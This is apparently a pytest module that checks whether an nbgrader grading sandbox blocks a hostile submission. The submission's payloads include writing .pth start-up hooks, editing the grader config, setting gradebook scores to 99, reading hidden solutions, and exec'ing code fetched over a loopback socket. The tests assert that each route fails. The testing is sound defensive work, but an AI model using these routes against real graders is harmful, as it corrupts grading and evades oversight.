"""Inside the grading sandbox (p2p_ref/course/grading/sandbox.py) a submission's routes to a better
grade fail where they start, in the kernel and in the re-grade alike.

One `nbgrader autograde` run of the tamper toy with P2P_GRADING_SANDBOX=on, on a throwaway
installation like test_grading_integrity.py's (a copy of p2p_ref on PYTHONPATH, under /tmp, which
the sandbox binds back read-only). The submission `attack-all-routes` has a wrong L1 (squared
error) and tries every route in turn, each of which would give it full marks or switch the checks
off for the students graded after it: rewrite the checks, drop a start-up hook into the package's
site folder and into the venv's site-packages, edit nbgrader_config.py, write the gradebook,
overwrite another student's submission, read the real solutions hidden behind the decoy, fetch the
model answer over the network from a server on the host's loopback. Each route prints how it
ended. `attack-f-model-answer` runs the decoy that stands in solutions/ (flagged, as without the
sandbox). `blank` and `solution` are graded after them and must score exactly as alone.
"""

import json
import shutil
import socket
import sysconfig
import threading
from pathlib import Path

import pytest

from grading_harness import BLANK, REPO, RIGHT_L1, SOLUTION, WRONG_L1, find_cell, grade_assignment, make_course, \
    nbgrader_env, throwaway_install, write_tamper_toy
from p2p_ref.course.grading.integrity import sha256
from p2p_ref.course.grading.sandbox import ENV as SANDBOX_ENV
from p2p_ref.course.grading.sandbox import probe
from test_grading_integrity import ASSIGNMENT, ATTACKS, L1_CELL, NOOP, PKG, _installation, _notes, _with_l1

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1200)]

VENV_HOOK = Path(sysconfig.get_paths()["purelib"]) / "zz_p2p_sandbox_test.pth"
ATTACKER = "attack-all-routes"
# route -> (code that tries it, an error it must end with inside the sandbox)
ROUTES = {
    "checks": (f"_f = _pkg / 'course' / 'checks' / 'ex4.py'\n_f.write_text(_f.read_text() + \"{NOOP}\")",
               "Read-only file system"),
    "package site folder": ("(_pkg.parent / 'zz_hook.pth').write_text('import os\\n')", "Read-only file system"),
    "venv site-packages": (f"open({str(VENV_HOOK)!r}, 'w').write('# test\\n')", "Read-only file system"),
    "config": ("_c = _course / 'nbgrader_config.py'\n"
               "_c.write_text(_c.read_text() + '\\nc.IsolatedRegrade.enabled = False\\n')", "Read-only file system"),
    "gradebook": ("import sqlite3 as _s\n_db = _s.connect(_course / 'gradebook.db')\n"
                  "_db.execute('update grade set auto_score = 99')\n_db.commit()", "unable to open database file"),
    "other student": ("(_course / 'submitted/solution/tt/tt.ipynb').write_text('{}')", "No such file or directory"),
    "submitted folder": ("(_course / 'submitted/solution.ipynb').write_text('{}')", "Read-only file system"),
    "hidden solutions": ("_nb = json.loads(next(_course.glob('.grading/hidden-*/tt/tt.ipynb')).read_text())\n"
                         "exec(''.join(next(c['source'] for c in _nb['cells'] if 'l1_loss' in ''.join(c['source']))))",
                         "StopIteration"),
    "network": ("_s = socket.create_connection(('127.0.0.1', PORT), timeout=5)\nexec(_s.recv(4096).decode())",
                "Connection refused"),
}


def _attack(port):
    lines = [WRONG_L1 + PKG + "import json, socket"]
    for name, (code, _) in ROUTES.items():
        body = "\n".join("    " + line for line in code.replace("PORT", str(port)).splitlines())
        lines.append(f"try:\n{body}\n    print('route {name}: went through')\n"
                     f"except Exception as _e:\n    print('route {name}:', type(_e).__name__, _e)")
    return "\n".join(lines) + "\n"


def _with_cell(source):
    def make(solution_nb, lesson_nb):
        nb = _with_l1("")(solution_nb, lesson_nb)[1]
        find_cell(nb, L1_CELL).source = source
        return "tries every route", nb
    return make


class Server(threading.Thread):
    """Serves the right L1 to whoever connects on the host's loopback; counts the connections."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.sock.getsockname()[1], 0

    def run(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.sendall(RIGHT_L1.encode())
            conn.close()


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    exe = shutil.which("bwrap")
    problem = probe(exe) if exe else "bwrap is not installed"
    if problem:
        pytest.skip(f"the grading sandbox cannot run on this machine: {problem}")
    assert not VENV_HOOK.exists()
    root = tmp_path_factory.mktemp("sandboxed")
    env_dir = root / "env"
    env = nbgrader_env(throwaway_install(env_dir))
    env[SANDBOX_ENV] = "on"
    write_tamper_toy(root / "sources")
    course = make_course(root / "course", [ASSIGNMENT], solutions=root / "sources")
    server = Server()
    server.start()
    extra = {ATTACKER: _with_cell(_attack(server.port)),
             "attack-f-model-answer": _with_l1(ATTACKS["attack-f-model-answer"][1])}
    try:
        run = grade_assignment(course, ASSIGNMENT, [], timeout=60, tamper_checks=False, plain_tampers=False,
                               extra=extra, env=env)
    finally:
        server.sock.close()
        hook_planted = VENV_HOOK.exists()
        VENV_HOOK.unlink(missing_ok=True)
    return run, env_dir, server, hook_planted


def _route_lines(run):
    text = "\n".join(o.get("text", "") for c in run.autograded_notebook(ATTACKER).cells for o in c.get("outputs", []))
    return {line.split(":")[0][len("route "):]: line for line in text.splitlines() if line.startswith("route ")}


def test_every_route_fails_where_it_starts(sandboxed):
    run, _, server, hook_planted = sandboxed
    lines = _route_lines(run)
    for name, (_, error) in ROUTES.items():
        assert error in lines.get(name, ""), (name, "\n".join(lines.values()))
    assert server.connections == 0 and not hook_planted


def test_the_attacker_gains_nothing(sandboxed):
    run, _, _, _ = sandboxed
    assert all(run.scores[ATTACKER][g].score == 0 for g in run.autograded), run.scores[ATTACKER]


def test_the_decoy_of_solutions_is_flagged_as_without_the_sandbox(sandboxed):
    run, _, _, _ = sandboxed
    student = "attack-f-model-answer"
    for gid in run.autograded:
        score = run.scores[student][gid]
        assert score.score == 0 and score.needs_manual_grade, (gid, score)
    assert "model answers" in _notes(run, student)


def test_later_submissions_score_as_alone_and_installation_is_unchanged(sandboxed):
    run, env_dir, _, _ = sandboxed
    assert all(run.scores[SOLUTION][g].score == p for g, p in run.autograded.items()), run.scores[SOLUTION]
    assert all(run.scores[BLANK][g].score == 0 for g in run.autograded), run.scores[BLANK]
    for student in (SOLUTION, BLANK):
        assert not any(run.scores[student][g].needs_manual_grade for g in run.autograded), run.scores[student]
        meta = run.autograded_notebook(student).metadata["p2p_regrade"]
        assert not meta["flagged"] and meta["sandbox"].startswith("on (bubblewrap"), meta
    assert "grading sandbox: on" in run.log and "grading sandbox: OFF" not in run.log
    manifest = json.loads((run.course / ".grading/manifest.json").read_text())
    now = _installation(env_dir, run.course)
    for label, digest in manifest.items():
        if label.startswith("p2p_ref/"):
            assert now[str(env_dir / label)] == digest, label
        elif not label.startswith("start-up hook"):
            assert now[str(run.course / label)] == digest, label
    assert not (env_dir / "zz_hook.pth").exists()
    assert not list((run.course / ".grading").glob("hidden-*"))
    config = (run.course / "nbgrader_config.py").read_bytes()
    assert sha256(config) == sha256((REPO / "nbgrader_config.py").read_bytes())
